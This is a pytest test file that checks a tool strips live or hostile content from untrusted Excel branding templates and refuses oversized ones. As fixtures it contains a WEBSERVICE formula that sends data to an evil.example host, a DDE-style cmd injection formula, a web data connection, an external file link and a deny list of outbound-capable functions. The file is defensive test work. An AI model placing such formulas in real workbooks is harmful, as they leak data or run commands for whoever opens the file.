"""A partner template is untrusted (issue 8): nothing live is copied from it into a workbook, and
it may hold only what a branding template needs, checked before openpyxl parses it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

import cba
from cba.io.workbook import template as template_module
from cba.io.workbook.template import (
    ALLOWED_FUNCTIONS,
    DEFAULT_TEMPLATE,
    MAX_CELLS,
    MAX_SHEETS,
    TemplateError,
    formula_problem,
    open_template,
)
from cba.io.workbook.writer import build_workbook
from tests.io.workbook.conftest import ROOT

SCENARIO = ROOT / "scenarios" / "balsall_heath_community_safety.yaml"
WEBSERVICE = '=WEBSERVICE("http://evil.example/?"&Summary!C5)'


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _template(tmp_path: Path, change: Callable[[Any], None], name: str = "branded.xlsx") -> Path:
    """The default template changed in openpyxl by ``change`` (a partner's edit in Excel)."""
    workbook = openpyxl.load_workbook(DEFAULT_TEMPLATE)
    change(workbook)
    path = tmp_path / name
    workbook.save(path)
    return path


def _zip_edit(tmp_path: Path, change: Callable[[dict[str, bytes]], None], name: str) -> Path:
    members = _members(DEFAULT_TEMPLATE.read_bytes())
    change(members)
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return path


def _refusal(path: Path) -> str:
    with pytest.raises(TemplateError) as caught:
        open_template(path)
    print(caught.value)  # shown with pytest -s
    return str(caught.value)


def _output(template: Path) -> dict[str, bytes]:
    scenario = cba.load_scenario(SCENARIO)
    data, _ = build_workbook(cba.run(scenario), scenario, {"command": "test"}, template)
    return _members(data)


# --- 5. formulas and everything live ----------------------------------------------------------


def test_a_webservice_formula_is_not_copied_into_the_workbook(tmp_path: Path) -> None:
    """Before: the formula was copied live and would send results to a server when opened."""

    def add(workbook: Any) -> None:
        workbook["Cover"]["C1"] = WEBSERVICE

    template = _template(tmp_path, add)
    loaded = open_template(template)
    assert [str(item) for item in loaded.dropped] == [
        f"Cover!C1: formula {WEBSERVICE} (function WEBSERVICE is not allowed)"
    ]
    warnings = loaded.warnings()
    assert warnings[0].startswith(f"{template}: 1 item of the template is not copied")
    assert warnings[1] == f"  Cover!C1: formula {WEBSERVICE} (function WEBSERVICE is not allowed)"
    output = _output(template)
    assert not any(b"WEBSERVICE" in content for content in output.values())
    assert b"evil.example" not in b"".join(output.values())


def test_plain_formulas_on_the_cover_are_kept(tmp_path: Path) -> None:
    def add(workbook: Any) -> None:
        cover = workbook["Cover"]
        cover["C1"] = "=SUM(A1:A3)+Summary!C5"
        cover["C2"] = '=_xlfn.CONCAT("NPSV: ",TEXT(Summary!$C$5,"£#,##0"))'
        cover["C3"] = "=cba_cover_title"
        cover["C4"] = ArrayFormula("C4", "=SUM(A1:A2*B1:B2)")
        cover["C5"] = "='Cover'!B4&\" \"&IF(TRUE,1,2)"

    loaded = open_template(_template(tmp_path, add))
    assert loaded.dropped == ()
    sheet = _members(_save(loaded.workbook))["xl/worksheets/sheet1.xml"]
    for formula in (b"SUM(A1:A3)+Summary!C5", b"_xlfn.CONCAT(", b"cba_cover_title", b"'Cover'!B4"):
        assert formula in sheet


def _save(workbook: Any) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("formula", "problem"),
    [
        ("=SUM(A1:B2)", None),
        ("=Summary!C5*2", None),
        ("='Cash flows'!$C$5:$H$5", None),
        ("=A:A", None),
        ("=#REF!", None),
        ("=-1.5e3%", None),
        ('=IF(A1>0,"yes","no")', None),
        ("={1,2;3,4}", None),
        ('=WEBSERVICE("http://x")', "function WEBSERVICE is not allowed"),
        ('=_xlfn.WEBSERVICE("http://x")', "function _xlfn.WEBSERVICE is not allowed"),
        ('=IMAGE("https://x/p.png")', "function IMAGE is not allowed"),
        ('=HYPERLINK("http://x","click")', "function HYPERLINK is not allowed"),
        ('=INDIRECT("A1")', "function INDIRECT is not allowed"),
        ('=FILTERXML("<a/>","//a")', "function FILTERXML is not allowed"),
        ('=CALL("kernel32","x")', "function CALL is not allowed"),
        ("=_xludf.MYFUNC(1)", "function _xludf.MYFUNC is not allowed"),
        ("=[1]Sheet1!A1", "it refers to [1]Sheet1!A1, not to cells of this workbook"),
        ("='C:\\x\\[book.xlsx]S'!A1", "not to cells of this workbook"),
        ("='\\\\server\\share\\[b.xlsx]S'!A1", "not to cells of this workbook"),
        ("=Table1[Column]", "not to cells of this workbook"),
        ("=unknown_name", "it refers to unknown_name, not to cells of this workbook"),
        ("=cmd|' /C calc'!A0", "cannot be read as a formula"),
        ("=" + "1+" * 5000 + "1", "longer than 8192 characters"),
    ],
)
def test_formula_allow_list(formula: str, problem: str | None) -> None:
    found = formula_problem(formula)
    if problem is None:
        assert found is None
    else:
        assert found is not None
        assert problem in found


def test_the_allow_list_holds_no_function_that_reaches_outside() -> None:
    outside = {"WEBSERVICE", "IMAGE", "HYPERLINK", "INDIRECT", "OFFSET", "CELL", "INFO", "RTD"}
    assert not outside & ALLOWED_FUNCTIONS
    assert {"SUM", "IF", "TEXT", "CONCATENATE", "ROUND", "INDEX", "MATCH"} <= ALLOWED_FUNCTIONS


def test_names_conditional_formats_validations_and_links_are_made_safe(tmp_path: Path) -> None:
    def add(workbook: Any) -> None:
        cover = workbook["Cover"]
        names = workbook.defined_names
        names["logo_cell"] = DefinedName("logo_cell", attr_text="'Cover'!$A$1")
        names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://e")')
        names["other_book"] = DefinedName("other_book", attr_text="[1]Sheet1!$A$1")
        names["uses_leak"] = DefinedName("uses_leak", attr_text="leak&1")
        cover.conditional_formatting.add("A1:A5", FormulaRule(formula=['WEBSERVICE("http://e")']))
        cover.conditional_formatting.add("B1:B5", FormulaRule(formula=["B1>logo_cell"]))
        good = DataValidation(type="list", formula1='"a,b,c"')
        bad = DataValidation(type="custom", formula1='WEBSERVICE("http://e")')
        for validation, cell in ((good, "E1"), (bad, "E2")):
            cover.add_data_validation(validation)
            validation.add(cell)
        cover["D1"].hyperlink = "http://plain.example/"
        cover["D2"].hyperlink = "https://partner.example/"
        cover["D3"].hyperlink = "file://server/share/x"
        cover["D4"].hyperlink = "mailto:team@partner.example"

    template = _template(tmp_path, add)
    dropped = [str(item) for item in open_template(template).dropped]
    assert dropped == [
        "defined name 'leak': reference =WEBSERVICE(\"http://e\") (function WEBSERVICE is not "
        "allowed)",
        "defined name 'other_book': reference =[1]Sheet1!$A$1 (it refers to [1]Sheet1!$A$1, not "
        "to cells of this workbook)",
        "defined name 'uses_leak': reference =leak&1 (it refers to leak, not to cells of this "
        "workbook)",
        "Cover!D1: hyperlink to http://plain.example/ (only https: and mailto: links are kept)",
        "Cover!D3: hyperlink to file://server/share/x (only https: and mailto: links are kept)",
        'Cover!A1:A5 (conditional format): formula =WEBSERVICE("http://e") (function '
        "WEBSERVICE is not allowed)",
        'Cover!E2 (data validation): formula =WEBSERVICE("http://e") (function WEBSERVICE is '
        "not allowed)",
    ]
    output = _output(template)
    everything = b"".join(output.values())
    assert b"WEBSERVICE" not in everything
    assert b"plain.example" not in output["xl/worksheets/_rels/sheet1.xml.rels"]
    assert b"https://partner.example/" in output["xl/worksheets/_rels/sheet1.xml.rels"]
    assert b"mailto:team@partner.example" in output["xl/worksheets/_rels/sheet1.xml.rels"]
    assert b"logo_cell" in output["xl/workbook.xml"]
    assert b"B1&gt;logo_cell" in output["xl/worksheets/sheet1.xml"]


def test_links_to_other_workbooks_and_data_connections_are_dropped(tmp_path: Path) -> None:
    def add(members: dict[str, bytes]) -> None:
        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        members["xl/connections.xml"] = (
            f'<connections xmlns="{main}"><connection id="1" name="q" type="4" '
            'refreshOnLoad="1"><webPr url="http://evil.example/q"/></connection></connections>'
        ).encode()
        members["xl/externalLinks/externalLink1.xml"] = (
            f'<externalLink xmlns="{main}" xmlns:r="{rel}"><externalBook r:id="rId1">'
            '<sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
        ).encode()
        members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/externalLinkPath" '
            'Target="file:///C:/secret/book.xlsx" TargetMode="External"/></Relationships>'
        ).encode()
        links = (
            f'<Relationship Type="{rel}/externalLink" Target="externalLinks/externalLink1.xml" '
            f'Id="rId9" /><Relationship Type="{rel}/connections" Target="connections.xml" '
            'Id="rId10" /></Relationships>'
        )
        members["xl/_rels/workbook.xml.rels"] = (
            members["xl/_rels/workbook.xml.rels"].decode().replace("</Relationships>", links)
        ).encode()
        members["xl/workbook.xml"] = (
            members["xl/workbook.xml"]
            .decode()
            .replace(
                "<calcPr",
                '<externalReferences><externalReference r:id="rId9"/></externalReferences><calcPr',
            )
        ).encode()

    template = _zip_edit(tmp_path, add, "linked.xlsx")
    dropped = [str(item) for item in open_template(template).dropped]
    assert dropped == [
        "the workbook: data connections (they fetch data from outside)",
        "the workbook: links to other workbooks (they read files and servers)",
    ]
    output = _output(template)
    assert not [name for name in output if "connections" in name or "externalLink" in name]
    assert b"evil.example" not in b"".join(output.values())
    assert b"secret" not in b"".join(output.values())


def test_cba_properties_charts_and_bad_cover_names_do_not_break_the_run(tmp_path: Path) -> None:
    """Before: a template carrying a cba_command property, or a cba_cover_title naming a range,
    made `cba run` fail with an internal error; a template chart was copied."""

    def add(workbook: Any) -> None:
        workbook.custom_doc_props.append(StringProperty(name="cba_command", value="forged"))
        workbook.custom_doc_props.append(StringProperty(name="Classification", value="OFFICIAL"))
        workbook.defined_names["cba_cover_title"] = DefinedName(
            "cba_cover_title", attr_text="'Cover'!$B$4:$C$5"
        )
        chart = BarChart()
        chart.add_data(Reference(workbook["Cover"], min_col=1, min_row=1, max_row=3))
        workbook["Cover"].add_chart(chart, "E5")

    template = _template(tmp_path, add)
    dropped = [str(item) for item in open_template(template).dropped]
    assert dropped == [
        "defined name 'cba_cover_title': reference (it must name one cell of a sheet)",
        "Cover: 1 chart(s) (cba draws every chart)",
        "the document: 1 cba_* property (cba writes its own provenance)",
    ]
    output = _output(template)
    custom = output["docProps/custom.xml"].decode()
    assert "forged" not in custom
    assert "OFFICIAL" in custom
    default_charts = [n for n in _output(DEFAULT_TEMPLATE) if n.startswith("xl/charts/chart")]
    assert [n for n in output if n.startswith("xl/charts/chart")] == default_charts


def test_the_default_template_drops_nothing() -> None:
    loaded = open_template(DEFAULT_TEMPLATE)
    assert loaded.dropped == ()
    assert loaded.warnings() == []
    import hashlib

    assert loaded.sha256 == hashlib.sha256(DEFAULT_TEMPLATE.read_bytes()).hexdigest()


# --- 6. what a branding template may hold, checked before openpyxl parses it -------------------


@pytest.fixture
def no_openpyxl(monkeypatch: pytest.MonkeyPatch) -> None:
    def must_not_load(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl must not parse a template over the limits")

    monkeypatch.setattr(template_module.openpyxl, "load_workbook", must_not_load)


def _sheet_xml(cells: int, extra: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, cells + 1))
    return f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData>{extra}</worksheet>'.encode()


def test_a_template_with_a_data_sheet_is_refused_before_parsing(
    tmp_path: Path, no_openpyxl: None
) -> None:
    """Before: a template inside every size limit with 3.2M cells took 166 s and 1.7 GB, and its
    cells were copied into the output."""

    def fill(members: dict[str, bytes]) -> None:
        members["xl/worksheets/sheet1.xml"] = _sheet_xml(110_000)

    message = _refusal(_zip_edit(tmp_path, fill, "data.xlsx"))
    assert "refused: the template has" in message
    assert "of sheet XML (the limit is 4.0 MiB)" in message
    assert "start again from templates/xlsx/default.xlsx" in message


def test_too_many_cells_rows_or_merged_cells_are_refused(tmp_path: Path, no_openpyxl: None) -> None:
    def cells(members: dict[str, bytes]) -> None:
        members["xl/worksheets/sheet1.xml"] = _sheet_xml(MAX_CELLS + 1)

    message = _refusal(_zip_edit(tmp_path, cells, "cells.xlsx"))
    assert f"has {MAX_CELLS + 1:,} cells" in message
    assert f"(the limit is {MAX_CELLS:,}; every cell of a merged or hyperlinked area" in message

    def merged(members: dict[str, bytes]) -> None:
        members["xl/worksheets/sheet1.xml"] = _sheet_xml(
            1, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        )

    message = _refusal(_zip_edit(tmp_path, merged, "merged.xlsx"))
    assert "has 17,179,869,185 cells (the limit is 10,000; every cell of a merged" in message


def test_too_many_sheets_are_refused(tmp_path: Path) -> None:
    def add(workbook: Any) -> None:
        for index in range(MAX_SHEETS):
            workbook.create_sheet(f"Extra {index}")

    message = _refusal(_template(tmp_path, add))
    assert f"has {MAX_SHEETS + 1} sheets (the limit is {MAX_SHEETS})" in message


def _png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` x ``height`` pixels (its header is all Pillow reads)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
    )


def test_too_many_or_too_large_pictures_are_refused(tmp_path: Path, no_openpyxl: None) -> None:
    def many(members: dict[str, bytes]) -> None:
        for index in range(11):
            members[f"xl/media/image{index}.png"] = _png_header(10, 10)

    assert "has 11 pictures (the limit is 10)" in _refusal(_zip_edit(tmp_path, many, "many.xlsx"))

    def huge(members: dict[str, bytes]) -> None:
        members["xl/media/image1.png"] = _png_header(100_000, 100_000)

    message = _refusal(_zip_edit(tmp_path, huge, "huge.xlsx"))
    assert "a 100,000 by 100,000 pixel picture ('xl/media/image1.png')" in message
    assert "(the limit is 25,000,000 pixels)" in message


def test_too_many_drawing_objects_are_refused(tmp_path: Path, no_openpyxl: None) -> None:
    """Many anchors naming one picture would each become a copy of it in the output."""

    def anchors(members: dict[str, bytes]) -> None:
        anchor = "<xdr:oneCellAnchor><xdr:pic/></xdr:oneCellAnchor>"
        members["xl/drawings/drawing1.xml"] = (
            '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
            f'spreadsheetDrawing">{anchor * 21}</xdr:wsDr>'
        ).encode()

    message = _refusal(_zip_edit(tmp_path, anchors, "anchors.xlsx"))
    assert "has 21 drawing objects (pictures, charts, shapes) (the limit is 20)" in message


def test_a_second_workbook_part_is_refused(tmp_path: Path) -> None:
    """openpyxl reads the first workbook part the manifest declares: the one checked must be it."""
    xltx = "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"

    def second(members: dict[str, bytes]) -> None:
        members["xl/other.xml"] = members["xl/workbook.xml"]
        types = members["[Content_Types].xml"].decode()
        members["[Content_Types].xml"] = types.replace(
            "</Types>", f'<Override PartName="/xl/other.xml" ContentType="{xltx}"/></Types>'
        ).encode()

    assert "declares 2 workbook parts" in _refusal(_zip_edit(tmp_path, second, "two.xlsx"))


# --- 7. messages without reprs ----------------------------------------------------------------


def test_refusals_show_names_without_python_reprs(tmp_path: Path) -> None:
    path = tmp_path / "names.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("xl/\x1b[31mevil\n.xml", bytes(4 * 1024 * 1024))
    message = _refusal(path)
    assert "member 'xl/\\x1b[31mevil\\n.xml'" in message
    assert "\n" not in message
    assert "b'" not in message

    def entities(members: dict[str, bytes]) -> None:
        members["xl/styles.xml"] = b'<!DOCTYPE s [<!ENTITY e "e">]>' + members["xl/styles.xml"]

    message = _refusal(_zip_edit(tmp_path, entities, "entities.xlsx"))
    assert "declares entities" in message
    assert "EntitiesForbidden" not in message
